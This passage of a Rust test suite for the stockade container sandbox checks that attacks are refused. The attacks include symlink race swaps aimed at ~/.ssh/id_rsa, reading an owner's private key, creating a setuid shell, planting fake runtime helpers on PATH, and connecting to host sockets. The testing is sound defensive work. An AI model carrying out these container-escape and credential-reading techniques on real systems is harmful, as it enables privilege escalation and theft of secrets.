/// `.git/NAME.stockade-refused`). The private directory is root's alone: the moves are refused,
/// root's files stay, nothing of root's comes back. Controls: the staged copy the moves aim at
/// exists during the run (root sees it), and the same user may move the same tree elsewhere.
#[test]
fn the_owner_cannot_move_roots_files_into_a_runs_private_directory() {
    if attacks::skip_unless_root(
        "the command's user differs from the caller only for a root caller",
    ) {
        return;
    }
    for engine in engines() {
        let fx = fixture();
        let mark = fx.marker("root-secret");
        let owned = fx.root.join("owned");
        let victim = owned.join("victim");
        let root_dir = victim.join("rootdir");
        std::fs::create_dir_all(&root_dir).expect("make the tree");
        attacks::write_file(&root_dir.join("precious"), "root's own\n", 0o644);
        attacks::write_file(&owned.join("rootsecret"), format!("{mark}\n"), 0o600);
        attacks::chown_to(&owned, &format!("{TEST_USER}:"));
        attacks::chown_to(&root_dir, "root:");
        attacks::chown_to(&owned.join("rootsecret"), "root:");
        let as_owner = |args: &[&std::ffi::OsStr]| {
            std::process::Command::new("runuser")
                .args(["-u", TEST_USER, "--", "mv"])
                .args(args)
                .output()
                .expect("run mv")
        };
        let mut run =
            engine_env(fx.sandbox(&opts(engine, &["--timeout", "120"]), "sleep 8")).spawn();
        let part = format!("-{}", run.id());
        assert!(
            wait_until(60, || !running(&fx, engine, &part).is_empty()),
            "{engine}: the run's container never ran"
        );
        let files = private_files(&fx, engine, &running(&fx, engine, &part)[0])
            .expect("the run's private files");
        let copy = files.join("git").join("0");
        assert!(
            copy.is_dir(),
            "{engine}: control: no staged copy at {}",
            copy.display()
        );
        let moved_tree = as_owner(&[victim.as_os_str(), copy.join("victim").as_os_str()]);
        let moved_file = as_owner(&[
            owned.join("rootsecret").as_os_str(),
            copy.join("rootsecret").as_os_str(),
        ]);
        let _ = run.wait();
        assert!(
            !moved_tree.status.success() && !moved_file.status.success(),
            "{engine}: the owner moved into the run's staged copy: {moved_tree:?} {moved_file:?}"
        );
        assert!(
            root_dir.join("precious").exists(),
            "{engine}: root's file went with the run's private files"
        );
        let back: Vec<String> = std::fs::read_dir(fx.ws.join(".git"))
            .expect("the git dir")
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with("rootsecret") || n.starts_with("victim"))
            .collect();
        assert!(
            back.is_empty(),
            "{engine}: came back from the run: {back:?}"
        );
        // Control: the user may move its tree (and root's file beside it) elsewhere.
        let elsewhere = fx.root.join("elsewhere");
        std::fs::create_dir(&elsewhere).expect("make a directory");
        attacks::chown_to(&elsewhere, &format!("{TEST_USER}:"));
        let control = as_owner(&[victim.as_os_str(), elsewhere.join("victim").as_os_str()]);
        assert!(control.status.success(), "{engine}: control: {control:?}");
    }
}

/// The run's private files (`stockade-container-*`, the source of its masks' empty file) as
/// the engine's record of the container `name` has them.
fn private_files(fx: &Fixture, engine: &str, name: &str) -> Option<std::path::PathBuf> {
    let out = std::process::Command::new(attacks::which(engine).expect("the engine"))
        .args([
            "inspect",
            "--format",
            "{{range .Mounts}}{{.Source}}\n{{end}}",
            name,
        ])
        .env("PATH", attacks::PATH)
        .env("HOME", &fx.home)
        .env("XDG_DATA_HOME", data_home())
        .output()
        .expect("run the engine");
    let text = String::from_utf8_lossy(&out.stdout);
    text.lines().find_map(|l| {
        let p = std::path::Path::new(l.trim());
        p.ancestors()
            .find(|a| {
                a.file_name()
                    .is_some_and(|n| n.to_string_lossy().starts_with("stockade-container-"))
            })
            .map(std::path::Path::to_path_buf)
    })
}

/// The direct children of process `pid`.
fn children(pid: u32) -> Vec<u32> {
    let Ok(tasks) = std::fs::read_dir(format!("/proc/{pid}/task")) else {
        return Vec::new();
    };
    tasks
        .flatten()
        .flat_map(|t| {
            let list = std::fs::read_to_string(t.path().join("children")).unwrap_or_default();
            list.split_whitespace()
                .filter_map(|c| c.parse::<u32>().ok())
                .collect::<Vec<_>>()
        })
        .collect()
}

/// The engine's client killed during a run (an OOM kill, a crash), stockade alive: the engine
/// keeps the container running, so the command would run on unsupervised once stockade had
/// returned (and a run whose output goes to a FIFO of its own waited for it: red team of the
/// redirected streams). stockade removes the container and returns. Control: the previous
/// behaviour, by the bare engine in `a_killed_stockade_leaves_no_container_running`.
#[test]
fn a_killed_engine_client_leaves_no_container_running() {
    for engine in engines() {
        let fx = fixture();
        let mut run =
            engine_env(fx.sandbox(&opts(engine, &["--timeout", "120"]), "sleep 90")).spawn();
        let part = format!("-{}", run.id());
        let up = wait_until(60, || !running(&fx, engine, &part).is_empty());
        assert!(up, "{engine}: the run's container never ran");
        let clients: Vec<u32> = children(run.id())
            .into_iter()
            .filter(|p| {
                std::fs::read_to_string(format!("/proc/{p}/comm")).is_ok_and(|c| c.trim() == engine)
            })
            .collect();
        assert!(!clients.is_empty(), "{engine}: no client of the run's");
        for p in &clients {
            let _ = std::process::Command::new("kill")
                .args(["-KILL", &p.to_string()])
                .status();
        }
        let began = std::time::Instant::now();
        let ended = wait_until(30, || matches!(run.try_wait(), Ok(Some(_))));
        assert!(ended, "{engine}: stockade waited on with its client gone");
        let gone = wait_until(30, || running(&fx, engine, &part).is_empty());
        assert!(
            gone,
            "{engine}: the container outlived its client and the run ({:?} after): {:?}",
            began.elapsed(),
            running(&fx, engine, &part)
        );
    }
}

#[test]
fn the_time_limit_ends_the_container() {
    for engine in engines() {
        let fx = fixture();
        let began = std::time::Instant::now();
        sandbox(&fx, &opts(engine, &["--timeout", "2"]), "sleep 60")
            .run()
            .assert_code(124);
        assert!(began.elapsed().as_secs() < 40, "{:?}", began.elapsed());
    }
}

#[test]
fn memory_is_bounded() {
    let Some(python) = attacks::python3("the memory test") else {
        return;
    };
    for engine in engines() {
        let fx = fixture();
        let grab = format!(
            "{} -c 'b = bytearray(400 << 20); print(\"GOT\", len(b))'",
            python.display()
        );
        if rootless(engine) {
            // No cgroup of its own: a memory limit is refused, or under --allow-degraded a
            // per-process bound (recorded as skipped) that holds for the heap.
            sandbox(&fx, &opts(engine, &["--memory", "128M"]), "echo ran")
                .run()
                .assert_code(125)
                .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
                .assert_stderr_contains("--allow-degraded")
                .assert_lacks("ran\n");
            attack(
                &fx,
                engine,
                &["--memory", "128M", "--allow-degraded"],
                &grab,
            )
            .assert_blocked("GOT");
            attack(&fx, engine, &["--memory", "2G", "--allow-degraded"], &grab).assert_shows("GOT");
            continue;
        }
        attack(&fx, engine, &["--memory", "128M"], &grab).assert_blocked("GOT");
        // Control: with room for it, the same allocation succeeds.
        attack(&fx, engine, &["--memory", "2G"], &grab).assert_shows("GOT");
    }
}

#[test]
fn host_unix_sockets_and_set_id_bits_are_refused() {
    let Some(python) = attacks::python3("the socket test") else {
        return;
    };
    for engine in engines() {
        let fx = fixture();
        // A host service listening on a Unix socket in the bound tree (an engine's socket in a
        // home, an IDE's, an agent's).
        let sock = fx.outside.join("service.sock");
        let listener = std::os::unix::net::UnixListener::bind(&sock).expect("bind");
        attacks::chmod(&sock, 0o777);
        let connect = format!(
            "{} -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect({:?}); print(\"CONNECTED\")'",
            python.display(),
            sock.to_string_lossy()
        );
        attack(&fx, engine, &[], &connect).assert_blocked("CONNECTED");
        // Control: the same connection from the host.
        fx.host(&connect)
            .run()
            .assert_success()
            .assert_stdout_contains("CONNECTED");
        drop(listener);
        // A set-user-ID file in the workspace would run as its owner for whoever runs it.
        attack(&fx, engine, &[], "cp /bin/sh suid && chmod 4755 suid").assert_failed();
        attack(&fx, engine, &[], "chmod g+s .").assert_failed();
        use std::os::unix::fs::PermissionsExt;
        let mode = |p: &Path| {
            std::fs::metadata(p)
                .map(|m| m.permissions().mode())
                .unwrap_or(0)
        };
        assert_eq!(mode(&fx.ws.join("suid")) & 0o6000, 0);
        assert_eq!(mode(&fx.ws) & 0o6000, 0);
        // Control: other mode changes work.
        attack(&fx, engine, &[], "chmod 755 suid && test -x suid").assert_ok();
    }
}

#[test]
fn a_root_callers_command_cannot_read_the_workspace_owners_credentials() {
    if !attacks::is_root() {
        return;
    }
    for engine in engines() {
        let fx = fixture();
        // The workspace's owner (the id the command runs as) keeps a key in their home.
        let home = test_user_entry().swap_remove(5);
        let key = Path::new(&home).join(format!(".stockade-test-key-{}", fx.id));
        let marker = fx.marker("ownerkey");
        write_file(&key, &marker, 0o600);
        let _ = std::process::Command::new("chown")
            .arg(format!("{TEST_USER}:"))
            .arg(&key)
            .status();
        let script = format!("cat {}", sh_quote(&key));
        let blocked = attack(&fx, engine, &[], &script);
        // Control: the owner reads it outside the sandbox.
        let control = std::process::Command::new("runuser")
            .args(["-u", TEST_USER, "--", "cat"])
            .arg(&key)
            .output()
            .expect("runuser");
        let _ = std::fs::remove_file(&key);
        blocked.assert_blocked(&marker);
        assert!(String::from_utf8_lossy(&control.stdout).contains(&marker));
    }
}

/// A root caller's run in a workspace inside its owner's home when that home is closed to
/// others (0700, as many systems make homes): the home is shown as an empty directory of
/// root's that the command passes through to the workspace. It was a tmpfs, which runc gives
/// the mode of the directory it is mounted on (root's 0700 then), and the run was refused.
/// The owner's files there stay unread. Control: the owner reads its key outside.
#[test]
fn a_workspace_in_the_owners_closed_home_runs() {
    if !attacks::is_root() {
        return;
    }
    let home = std::path::PathBuf::from(test_user_entry().swap_remove(5));
    /// The home's mode put back, and the test's files there removed, however the test ends.
    struct Restore(std::path::PathBuf, u32, Vec<std::path::PathBuf>);
    impl Drop for Restore {
        fn drop(&mut self) {
            attacks::chmod(&self.0, self.1);
            for p in &self.2 {
                let _ = std::fs::remove_dir_all(p);
                let _ = std::fs::remove_file(p);
            }
        }
    }
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&home)
        .expect("the home")
        .permissions()
        .mode()
        & 0o7777;
    for engine in engines() {
        let fx = fixture();
        let ws = home.join(format!("stockade-test-ws-{}", fx.id));
        let key = home.join(format!(".stockade-test-key-{}", fx.id));
        let _restore = Restore(home.clone(), mode, vec![ws.clone(), key.clone()]);
        attacks::mkdir(&ws);
        let marker = fx.marker("ownerkey");
        write_file(&key, &marker, 0o600);
        for p in [&ws, &key] {
            attacks::chown_to(p, &format!("{TEST_USER}:"));
        }
        attacks::chmod(&home, 0o700);
        let script = format!(
            "pwd; echo made > new.txt; cat {} || echo key-unread; ls {} || echo home-unlisted",
            sh_quote(&key),
            sh_quote(&home)
        );
        let run = engine_env(fx.stockade(["run", "--backend", engine]))
            .args(["--workspace".as_ref(), ws.as_os_str()])
            .arg("--shell")
            .arg(&script)
            .cwd(&ws)
            .run();
        run.assert_success()
            .assert_stdout_contains(&ws.display().to_string())
            .assert_stdout_contains("key-unread")
            .assert_stdout_contains("home-unlisted");
        assert!(!run.all_output().contains(&marker), "{}", run.describe());
        assert_eq!(
            attacks::read_text(&ws.join("new.txt")).as_deref(),
            Some("made\n")
        );
        let control = std::process::Command::new("runuser")
            .args(["-u", TEST_USER, "--", "cat"])
            .arg(&key)
            .output()
            .expect("runuser");
        assert!(String::from_utf8_lossy(&control.stdout).contains(&marker));
    }
}

#[test]
fn the_engine_runs_with_its_own_path_and_environment() {
    for engine in engines() {
        let fx = fixture();
        // A runtime or engine helper planted in a directory of the caller's PATH that the
        // command can write (`.venv/bin`): the engine never runs it.
        let bin = fx.ws.join("tools");
        let tripwire = fx.root.join("tripwire");
        attacks::mkdir(&bin);
        for helper in [
            "runc",
            "crun",
            "conmon",
            "newuidmap",
            "newgidmap",
            "docker-init",
        ] {
            write_file(
                &bin.join(helper),
                format!(
                    "#!/bin/sh\necho {helper} >> {}\nexit 1\n",
                    sh_quote(&tripwire)
                ),
                0o755,
            );
        }
        with_path(sandbox(&fx, &opts(engine, &[]), "echo ran"), &bin)
            .run()
            .assert_success()
            .assert_stdout_contains("ran");
        assert!(!tripwire.exists(), "{:?}", attacks::read_text(&tripwire));
        // A variable the command is given that would steer the engine (another daemon, another
        // store) reaches the command only.
        sandbox(
            &fx,
            &opts(
                engine,
                &[
                    "--env",
                    "DOCKER_HOST=tcp://127.0.0.1:9",
                    "--env",
                    "CONTAINER_HOST=tcp://127.0.0.1:9",
                    "--env",
                    "XDG_DATA_HOME=/nonexistent",
                    "--env",
                    "CONTAINERS_CONF=/nonexistent/containers.conf",
                ],
            ),
            "echo \"$DOCKER_HOST\"",
        )
        .run()
        .assert_success()
        .assert_stdout_contains("tcp://127.0.0.1:9");
        // Control: the engine given that environment goes elsewhere, and fails (Docker: the
        // daemon named by DOCKER_HOST; Podman, rootless or root: the configuration named by
        // CONTAINERS_CONF).
        let control = std::process::Command::new(engine)
            .args(["images"])
            .env("PATH", attacks::PATH)
            .env("HOME", &fx.home)
            .env("DOCKER_HOST", "tcp://127.0.0.1:9")
            .env("CONTAINERS_CONF", "/nonexistent/containers.conf")
            .output()
            .expect("run the engine");
        assert!(!control.status.success(), "{control:?}");
    }
}

#[test]
fn a_protected_path_replaced_before_the_engine_binds_it_is_refused() {
    for engine in engines() {
        let fx = fixture();
        let marker = fx.marker("ssh");
        let pause = fx.root.join("pause");
        let hooks = fx.ws.join(".git/hooks");
        let ssh = fx.home.join(".ssh");
        // Between the plan and the engine's binds, .git/hooks becomes a link to ~/.ssh: the
        // engine (root) would bind what the link names at .git/hooks, read-only, where no
        // mask covers it.
        let cmd = fx
            .sandbox(&opts(engine, &[]), "cat .git/hooks/id_rsa")
            .env("STOCKADE_TEST_CONTAINER_PAUSE", &pause);
        let child = paused(cmd, &pause);
        std::fs::rename(&hooks, fx.ws.join(".git/hooks.away")).expect("move the hooks away");
        std::os::unix::fs::symlink(&ssh, &hooks).expect("link");
        std::fs::remove_file(&pause).expect("resume the run");
        let run = child.join().expect("the run");
        run.assert_code(125)
            .assert_stderr_contains("replaced")
            .assert_lacks(&marker);
        // Control: the engine itself follows such a link and shows what it names (a link of
        // the control's own: the sweep after the refused run took the planted one away).
        let link = fx.ws.join("link-to-ssh");
        std::os::unix::fs::symlink(&ssh, &link).expect("link");
        let mount = format!("type=bind,src={},dst=/x,ro=true", link.display());
        let out = bare_control(&fx, engine, &["--mount", &mount], "cat /x/id_rsa");
        assert!(
            String::from_utf8_lossy(&out.stdout).contains(&marker),
            "{out:?}"
        );
    }
}

/// A writable root replaced by a symbolic link after the plan, before the backend reads its
/// identity and the engine binds it, is refused (CI, privileged_side's swap loop under rootless
/// Podman: the backend found a link where the plan had a directory and left that root out of
/// the check inside; the engine followed the link and the command wrote where it led). The
/// link leads through a link in the host's `/tmp`: the engine resolves the bind's source on
/// the host (to `outside`) and its destination in the container (a new directory in the
/// container's own `/tmp`), where a writable mount used to pass the check inside as the
/// engine's own. Control: the engine given that link as a bind writes to `outside`.
#[test]
fn a_writable_root_replaced_by_a_link_before_the_engine_binds_it_is_refused() {
    for engine in engines() {
        let fx = fixture();
        let pause = fx.root.join("pause");
        let cache = fx.root.join("cache");
        attacks::mkdir(&cache);
        if attacks::is_root() {
            attacks::chown_to(&cache, &format!("{TEST_USER}:"));
        }
        let via = Path::new("/tmp").join(format!("stockade-via-{}", fx.id));
        std::os::unix::fs::symlink(&fx.outside, &via).expect("link in /tmp");
        let write = format!("echo pwned > {}", sh_quote(cache.join("job")));
        let grant = cache.to_string_lossy().into_owned();
        let cmd = sandbox(&fx, &opts(engine, &["--allow-write", &grant]), &write)
            .env("STOCKADE_TEST_CONTAINER_PAUSE_PLANNED", &pause);
        let child = paused(cmd, &pause);
        std::fs::rename(&cache, fx.root.join("cache.away")).expect("move the root away");
        std::os::unix::fs::symlink(&via, &cache).expect("link");
        std::fs::remove_file(&pause).expect("resume the run");
        let run = child.join().expect("the run");
        let wrote = fx.outside.join("job").exists();
        // Control: the engine follows the links and the write lands outside.
        let mount = format!("type=bind,src={},dst=/x", cache.display());
        let out = bare_control(
            &fx,
            engine,
            &["--mount", &mount],
            "echo control > /x/control",
        );
        let _ = std::fs::remove_file(&via);
        assert!(!wrote, "a run wrote where the link leads: {run:?}");
        run.assert_code(125)
            .assert_stderr_contains("changed since the run was planned");
        assert!(fx.outside.join("control").exists(), "control: {out:?}");
    }
}

/// A directory above a writable root swapped for a link once the run is planned (red team of
/// issue 33, tenth round): the root `p/tmp` then names the host's `/tmp`; the engine binds the
/// host's `/tmp` (its source, resolved on the host) on the container's own `/tmp` (its
/// destination, resolved in the container), and the check, reading the root through the same
/// link, found the identity planned and took the mount at `/tmp` for the engine's own. Swapped
/// before the backend reads the roots' identities (through no link on the whole path), the
/// root has none and is refused there; swapped after that, just before the engine starts, the
/// check inside finds no mount at the root's own path. Control: the engine given that bind
/// puts the host's `/tmp` there, writable.
#[test]
fn a_directory_above_a_writable_root_swapped_for_a_link_is_refused() {
    for engine in engines() {
        for (pause_at, refusal) in [
            (
                "STOCKADE_TEST_CONTAINER_PAUSE_PLANNED",
                "changed since the run was planned",
            ),
            ("STOCKADE_TEST_CONTAINER_PAUSE", "nothing is mounted at"),
        ] {
            let fx = fixture();
            let pause = fx.root.join("pause");
            let parent = fx.root.join("p");
            let root = parent.join("tmp");
            attacks::mkdir(&root);
            if attacks::is_root() {
                attacks::chown_to(&parent, &format!("{TEST_USER}:"));
                attacks::chown_to(&root, &format!("{TEST_USER}:"));
            }
            let name = format!("stockade-above-{}", fx.id);
            let landed = Path::new("/tmp").join(&name);
            let write = format!("echo pwned > {}", sh_quote(root.join(&name)));
            let grant = root.to_string_lossy().into_owned();
            let cmd = sandbox(&fx, &opts(engine, &["--allow-write", &grant]), &write)
                .env(pause_at, &pause);
            let child = paused(cmd, &pause);
            let away = fx.root.join("p.away");
            std::fs::rename(&parent, &away).expect("move the parent away");
            std::os::unix::fs::symlink("/", &parent).expect("link");
            std::fs::remove_file(&pause).expect("resume the run");
            let run = child.join().expect("the run");
            let wrote = landed.exists();
            let _ = std::fs::remove_file(&landed);
            // Control: the engine given the root's path as a bind, with the link in place.
            let control = format!("echo control > {}", sh_quote(root.join(&name)));
            let mount = format!("type=bind,src={grant},dst={grant}");
            let out = bare_control(
                &fx,
                engine,
                &["--tmpfs", "/tmp:rw,mode=1777", "--mount", &mount]
                    .into_iter()
                    .chain(["--mount", "type=bind,src=/var,dst=/var,ro=true"])
                    .collect::<Vec<_>>(),
                &control,
            );
            let controlled = landed.exists();
            let _ = std::fs::remove_file(&landed);
            std::fs::remove_file(&parent).expect("remove the link");
            std::fs::rename(&away, &parent).expect("put the parent back");
            assert!(
                !wrote,
                "{engine}, swapped at {pause_at}: a run wrote into the host's /tmp: {run:?}"
            );
            run.assert_code(125)
                .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
                .assert_stderr_contains(refusal);
            assert!(controlled, "{engine}: control: {out:?}");
        }
    }
}

/// A directory above a protected path swapped for a link to where it went, just before the
/// engine starts (red team of issue 33, eleventh round): the engine's read-only bind of
/// `sub/.envrc` followed the link (its source on the host, its destination in the container)
/// and landed on `sub.away/.envrc`, the same file, so the check's identity of the path (read
/// through the same link) was the one planned; the command replaced the link with a directory
/// and wrote `sub/.envrc`, the protected path, with nothing mounted there. The check inside
/// now requires each protected path to be a read-only mount at its own path, and refuses the
/// run. Control (`STOCKADE_BIN` of the commit before): the command wrote.
#[test]
fn a_directory_above_a_protected_path_swapped_for_a_link_is_refused() {
    for engine in engines() {
        let fx = fixture();
        let pause = fx.root.join("pause");
        let sub = fx.ws.join("sub");
        attacks::mkdir(&sub);
        write_file(&sub.join(".envrc"), "export A=1\n", 0o644);
        if attacks::is_root() {
            attacks::chown_to(&fx.ws, &format!("{TEST_USER}:"));
        }
        let cmd = sandbox(
            &fx,
            &opts(engine, &[]),
            "rm sub && mkdir sub && echo evil > sub/.envrc && echo wrote",
        )
        .env("STOCKADE_TEST_CONTAINER_PAUSE", &pause);
        let child = paused(cmd, &pause);
        std::fs::rename(&sub, fx.ws.join("sub.away")).expect("move sub away");
        std::os::unix::fs::symlink("sub.away", &sub).expect("link");
        std::fs::remove_file(&pause).expect("resume the run");
        let run = child.join().expect("the run");
        run.assert_lacks("wrote")
            .assert_code(125)
            .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
            .assert_stderr_contains("nothing is mounted at");
    }
}

/// A writable mount the command cannot reach does not refuse a rootless Podman run; one it
/// can reach does. A running Docker container's root (an overlay below `/var/lib/docker`,
/// which dockerd makes a shared mount, so it shows writable in rootless Podman's namespace
/// and in the container's recursive bind of `/var`) lies below a directory the command can
/// neither search nor make searchable (root's, mode 0710): found by CI, every rootless run
/// beside a Docker container (another test's, or a user's) was refused ("/var/lib/docker/
/// overlay2/.../merged is writable"). Then tmpfs mounts made in rootless Podman's own
/// namespace: below a directory of root's, mode 0700 (accepted), below a directory the run
/// masks (`--deny-read`; covered: accepted), and below an open one (the attack: refused, the
/// command not run). The Docker root shows writable inside (the case is real), and the
/// command cannot list it. Root callers only (Docker, mounts, and `runuser` to the test user).
#[test]
fn a_writable_mount_out_of_the_commands_reach_does_not_refuse_a_rootless_run() {
    if !attacks::is_root() || !engines().contains(&"docker") || attacks::which("podman").is_none() {
        return;
    }
    let fx = fixture();
    let image = image_of(&fx, "docker");
    let name = format!("stockade-bystander-{}", fx.id);
    let started = bare_run(&fx, "docker")
        .args([
            "-d",
            "--rm",
            "--network",
            "none",
            "--user",
            "0:0",
            "--name",
            &name,
        ])
        .args(["--mount", "type=bind,src=/usr,dst=/usr,ro=true", &image])
        .args(["/bin/sh", "-c", "sleep 120"])
        .output()
        .expect("docker run");
    assert!(started.status.success(), "docker run: {started:?}");
    struct Removed(String);
    impl Drop for Removed {
        fn drop(&mut self) {
            let _ = std::process::Command::new("docker")
                .args(["rm", "-f", &self.0])
                .output();
        }
    }
    let _bystander = Removed(name);
    let entry = test_user_entry();
    let rootless = |more: &[&str], script: &str| {
        let out = std::process::Command::new("runuser")
            .args(["-u", TEST_USER, "--", "env", "-i"])
            .arg(format!("PATH={}", attacks::PATH))
            .arg(format!("HOME={}", entry[5]))
            .arg(format!(
                "XDG_DATA_HOME=/var/tmp/stockade-container-tests-{}",
                entry[2]
            ))
            .arg(attacks::stockade_bin())
            .args(["run", "--backend", "podman", "--memory", "0", "--workspace"])
            .arg(&fx.ws)
            .args(more)
            .args(["--shell", script])
            .current_dir(&fx.ws)
            .output()
            .expect("runuser");
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let script = "grep ' /var/lib/docker/overlay2/[^ ]*/merged rw' /proc/self/mountinfo | head -1; ls /var/lib/docker 2>&1; echo ran";
    let (rc, out, err) = rootless(&[], script);
    assert!(
        rc == Some(0) && out.contains("ran"),
        "a rootless run beside a Docker container was refused:\n{out}\n{err}"
    );
    // The case is real: the container's root is there, writable, and out of the command's reach.
    assert!(out.contains("/merged rw"), "no Docker root inside: {out}");
    assert!(out.contains("Permission denied"), "{out}");

    // Mounts in rootless Podman's own namespace (its pause process's).
    let pause = format!("/tmp/podman-run-{}/libpod/tmp/pause.pid", entry[2]);
    let Some(pid) = attacks::read_text(Path::new(&pause)).map(|p| p.trim().to_owned()) else {
        println!("skipped: no pause process of rootless Podman's at {pause}");
        return;
    };
    let in_ns = |args: &[&str]| {
        std::process::Command::new("nsenter")
            .args(["-t", &pid, "-m", "--"])
            .args(args)
            .status()
            .is_ok_and(|s| s.success())
    };
    let base = fx.root.join("mounts");
    attacks::mkdir(&base);
    attacks::chmod(&base, 0o755);
    // Each tmpfs alone (an open one refuses every run): mounted, one run, unmounted.
    let with_mount = |dir: &str, mode: u32, more: &[&str], script: &str| {
        let m = base.join(dir).join("m");
        attacks::mkdir(&m);
        attacks::chmod(&base.join(dir), mode);
        let path = m.to_str().unwrap().to_owned();
        assert!(
            in_ns(&["mount", "-t", "tmpfs", "stockade-test-tmpfs", &path]),
            "mount in rootless Podman's namespace"
        );
        let got = rootless(more, script);
        let _ = in_ns(&["umount", &path]);
        (path, got)
    };
    let masked = base.join("masked").display().to_string();
    let (_, closed) = with_mount("closed", 0o700, &[], "echo ran");
    let (_, covered) = with_mount("masked", 0o755, &["--deny-read", &masked], "echo ran");
    let open = base.join("open/m").display().to_string();
    // The attack: a writable mount in the command's reach.
    let (_, reach) = with_mount(
        "open",
        0o755,
        &[],
        &format!("touch {}/x && echo wrote", sh_quote(&open)),
    );
    assert!(
        closed.0 == Some(0) && closed.1.contains("ran"),
        "below a directory of root's, 0700: {closed:?}"
    );
    assert!(
        covered.0 == Some(0) && covered.1.contains("ran"),
        "below a masked directory: {covered:?}"
    );
    assert_eq!(reach.0, Some(125), "{reach:?}");
    assert!(!reach.1.contains("wrote"), "{reach:?}");
    assert!(
        reach.2.contains(&format!("{open} is writable")),
        "{reach:?}"
    );
}

/// `ENGINE run` of the engine itself, as a control: what the engine does given an argument
/// stockade never gives it (Podman with runc and rlimits it may set, as stockade runs it).
/// The test user's line of `/etc/passwd`, by field (2: the uid, 5: the home).
fn test_user_entry() -> Vec<String> {
    let passwd = attacks::read_text(Path::new("/etc/passwd")).unwrap_or_default();
    (passwd.lines())
        .find(|l| l.starts_with(&format!("{TEST_USER}:")))
        .expect("the test user")
        .split(':')
        .map(str::to_owned)
        .collect()
}

fn bare_run(fx: &Fixture, engine: &str) -> std::process::Command {
    let mut c = std::process::Command::new(attacks::which(engine).expect("the engine"));
    c.env("PATH", attacks::PATH)
        .env("HOME", &fx.home)
        .env("XDG_DATA_HOME", data_home());
    if engine == "podman" {
        c.args(["--runtime", "/usr/sbin/runc"]);
    }
    c.arg("run");
    if engine == "podman" {
        c.args([
            "--ulimit",
            "nofile=1024:1024",
            "--ulimit",
            "nproc=1024:1024",
        ]);
    }
    c
}

/// `cmd` (a run told to pause at one of its pause points by the file `pause`) run in a thread,
/// returned once it has paused there.
fn paused(cmd: Cmd, pause: &Path) -> std::thread::JoinHandle<attacks::Run> {
    let child = std::thread::spawn(move || cmd.run());
    assert!(
        attacks::wait_until(|| pause.exists(), std::time::Duration::from_secs(30)),
        "the run never paused"
    );
    child
}

/// A control of the engine itself: `ENGINE run` of the default image with no network, as uid 0,
/// `/usr` bound read-only and `args` (mounts), running `sh -c script`.
fn bare_control(fx: &Fixture, engine: &str, args: &[&str], script: &str) -> std::process::Output {
    bare_run(fx, engine)
        .args([
            "--rm",
            "--network",
            "none",
            "--pull",
            "never",
            "--user",
            "0:0",
        ])
        .args(args)
        .args(["--mount", "type=bind,src=/usr,dst=/usr,ro=true"])
        .arg(image_of(fx, engine))
        .args(["/bin/sh", "-c", script])
        .output()
        .expect("run the engine")
}

/// The default image's name, from a run's record.
fn image_of(fx: &Fixture, engine: &str) -> String {
    let report = fx.root.join("image-report.json");
    let rep = report.to_string_lossy().into_owned();
    attack(fx, engine, &["--report", &rep], "true").assert_ok();
    attacks::json_str(&read_json(&report)["container"], "image").to_owned()
}

/// `stockade selftest --backend E`: the whole embedded corpus under each engine this caller
/// can use (a root caller's fixtures go to an id no account has, as the runner does for
/// container backends). No attack escapes, no control is vacuous, every case runs or says
/// why not (`not_under.podman`/`docker` in the corpus: mostly `--net proxy`, which the
/// container backends refuse, and rootless Podman's memory).
#[test]
fn whole_corpus_is_contained_under_each_engine() {
    for engine in engines() {
        let run = engine_env(Cmd::new(
            attacks::stockade_bin(),
            std::path::Path::new("/var/tmp"),
        ))
        .args(["selftest", "--json", "--backend", engine])
        .timeout(std::time::Duration::from_secs(900))
        .run();
        let doc: serde_json::Value = serde_json::from_str(run.stdout.trim()).unwrap_or_else(|e| {
            panic!(
                "{engine}: selftest --json printed no JSON ({e})\n{}",
                run.describe()
            )
        });
        for c in doc["cases"].as_array().expect("cases") {
            if c["verdict"] != "contained" {
                println!("{engine}: {} {}: {}", c["verdict"], c["id"], c["detail"]);
            }
        }
        let s = &doc["summary"];
        println!("{engine}: summary: {s}");
        let n = |k: &str| s[k].as_u64().expect(k);
        assert_eq!(n("escaped"), 0, "{engine}: escaped cases\n{}", run.stderr);
        // A case whose output lost its last line (the snippet's status) did not run to the
        // end as far as the corpus can tell: Podman's client now and then ends before all of
        // the container's output reached it (podman issue 9096; CI of b70ec1e, root Podman,
        // one case in 290 on a loaded machine, exit 0). Such a case runs again on its own
        // and must then be contained; any other error fails.
        for c in doc["cases"].as_array().expect("cases") {
            if c["verdict"] == "error" {
                let id = c["id"].as_str().expect("id");
                let cut = (c["detail"].as_str())
                    .is_some_and(|d| d.starts_with("the snippet did not run to the end (exit 0)"));
                assert!(cut, "{engine}: {id} did not run: {}", c["detail"]);
                let again = (0..2).any(|_| corpus_case(engine, id) == "contained");
                assert!(again, "{engine}: {id} did not run in two more tries");
            }
        }
        assert!(
            n("not_applicable") <= 40,
            "{engine}: too many cases not applicable"
        );
        assert!(
            n("contained") >= 200,
            "{engine}: fewer than 200 cases ran contained"
        );
        // A control that measures (the CPU case's share of a core) can fall short on a
        // machine this busy: such a case runs again on its own, and must then be contained.
        for c in doc["cases"].as_array().expect("cases") {
            if c["verdict"] == "vacuous" {
                let id = c["id"].as_str().expect("id");
                let again = (0..3).any(|_| corpus_case(engine, id) == "contained");
                assert!(again, "{engine}: {id} stayed vacuous in three more tries");
            }
        }
    }
}

/// The verdict of one corpus case under `engine`, run on its own.
fn corpus_case(engine: &str, id: &str) -> String {
    let run = engine_env(Cmd::new(
        attacks::stockade_bin(),
        std::path::Path::new("/var/tmp"),
    ))
    .args(["selftest", "--json", "--backend", engine, "--case", id])
    .timeout(std::time::Duration::from_secs(300))
    .run();
    let doc: serde_json::Value = serde_json::from_str(run.stdout.trim()).unwrap_or_default();
    let verdict = doc["cases"][0]["verdict"]
        .as_str()
        .unwrap_or("none")
        .to_string();
    println!("{engine}: {id} again: {verdict}");
    assert_ne!(
        verdict,
        "escaped",
        "{engine}: {id} escaped\n{}",
        run.describe()
    );
    verdict
}

/// Review and ephemeral runs under each engine: the command sees the workspace through the
